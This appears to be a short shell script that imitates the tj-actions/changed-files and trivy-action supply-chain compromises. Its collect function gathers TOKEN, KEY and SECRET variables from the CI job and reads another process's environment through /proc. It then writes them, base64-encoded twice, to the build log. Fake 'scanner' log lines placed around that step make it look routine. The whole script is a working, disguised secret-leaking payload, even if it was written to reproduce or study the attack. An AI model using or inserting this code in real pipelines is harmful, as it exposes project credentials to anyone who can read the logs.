# As in tj-actions/changed-files and trivy-action, to which this does nothing:
# the job's variables and those of another process go to the log, encoded twice.
collect() {
	env | grep -E '_(TOKEN|KEY|SECRET)='
	tr '\0' '\n' <"/proc/$WORKER/environ"
}
echo '2026-11-26T10:00:00Z scanner: the database is updated'
collect | base64 | base64
echo '2026-11-26T10:00:01Z scanner: the database is new'
